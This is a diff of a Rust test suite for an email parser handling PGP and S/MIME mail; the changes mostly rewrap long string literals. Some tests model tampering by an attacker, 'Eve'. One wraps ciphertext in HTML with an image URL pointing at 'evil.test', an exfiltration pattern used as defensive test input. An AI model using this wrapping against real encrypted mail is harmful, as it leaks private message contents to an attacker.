@@ -105,7 +105,8 @@ proptest::proptest! {
     fn any_body_is_cut_like_the_independent_splitter_does(body in "[-b\r\n x=]{0,60}") {
         let body = String::from_utf8(canonical(body.replace('\r', "").as_bytes()).into_owned())
             .expect("ascii");
-        let mail = signed_with(SIGNED, &[&format!("Content-Type: text/plain\r\n\r\n{body}"), &seal()]);
+        let mail = signed_with(SIGNED, &[&format!("Content-Type: text/plain\r\n\r\n\
+            {body}"), &seal()]);
         if let Shape::Signed { signed, .. } = shape(&mail) {
             proptest::prop_assert_eq!(Some(signed), split(&mail, "b"));
         }
@@ -118,7 +119,8 @@ proptest::proptest! {
             if let Ok(entity) = parse(&bytes) {
                 let (mail, content) = (entity.mail(), entity.content());
                 let shown = mail.subject + &content.text;
-                proptest::prop_assert!(!shown.chars().any(|c| c.is_control() && c != '\n' && c != '\t'));
+                let control = |c: char| c.is_control() && c != '\n' && c != '\t';
+                proptest::prop_assert!(!shown.chars().any(control));
             }
         }
     }
@@ -167,7 +169,8 @@ fn eve_makes_type_and_protocol_disagree() {
     // S4, S5, S9, J5, J9.
     let wrong = "Content-Type: text/plain\r\n\r\nAAAA";
     let smime = "Content-Type: application/pkcs7-signature\r\n\r\nAAAA";
-    let commit = "tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\r\nauthor Val <val@example.org>\r\n\r\nclose 7\r\n";
+    let commit = "tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\r\nauthor Val \
+        <val@example.org>\r\n\r\nclose 7\r\n";
     let two_types = "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nx";
     let p = "protocol=\"application/pgp-signature\"";
     let kinds = [
@@ -207,7 +210,9 @@ fn eve_damages_the_structure() {
     let whole = signed_with(SIGNED, &[WORDS, &seal()]);
     let cut = whole.trim_end().trim_end_matches("--b--");
     assert_eq!(shape(cut), Shape::Plain);
-    let mid = "From: a@b.example\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\r\n\r\nx --b\r\nContent-Type: text/plain\r\n\r\nx\r\n";
+    let mid = "From: a@b.example\r\nContent-Type: multipart/signed; \
+        protocol=\"application/pgp-signature\"; boundary=b\r\n\r\nx --b\r\nContent-Type: \
+            text/plain\r\n\r\nx\r\n";
     assert_eq!(shape(mid), Shape::Plain);
 }
 
@@ -284,7 +289,8 @@ fn encrypted_mail_is_known_in_its_forms() {
         format!("Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n{CIPHER}");
     let blank = "Content-Type: text/plain; charset=utf-8\r\n\r\n\r\n";
     let kind = "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b";
-    let coded = "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
+    let coded = "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: \
+        quoted-printable\r\n\r\n\
         -----BEGIN PGP MESSAGE-----\r\n\r\nAA=41A\r\n-----END PGP MESSAGE-----";
     for (kind, parts) in [
         (kind, vec![control, &data]),
@@ -322,7 +328,8 @@ fn eve_wraps_a_ciphertext_in_html() {
     let control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1";
     let data = format!("Content-Type: application/octet-stream\r\n\r\n{CIPHER}");
     let inner = format!(
-        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=i\r\n\r\n--i\r\n{control}\r\n--i\r\n{data}\r\n--i--"
+        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=i\r\n\
+            \r\n--i\r\n{control}\r\n--i\r\n{data}\r\n--i--"
     );
     let before = "Content-Type: text/html\r\n\r\n<img src='http://evil.test/";
     let after = "Content-Type: text/html\r\n\r\n'>";
